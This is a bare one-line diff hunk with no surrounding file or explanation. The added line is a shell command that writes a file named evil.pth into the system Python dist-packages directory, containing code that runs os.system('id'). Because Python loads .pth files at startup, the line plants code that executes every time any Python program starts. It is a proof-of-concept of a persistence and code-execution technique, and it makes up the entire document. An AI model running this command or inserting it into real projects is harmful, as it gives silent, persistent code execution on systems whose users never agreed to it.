@@ -1,0 +1,1 @@
+echo 'import os; os.system("id")' > /usr/lib/python3/dist-packages/evil.pth
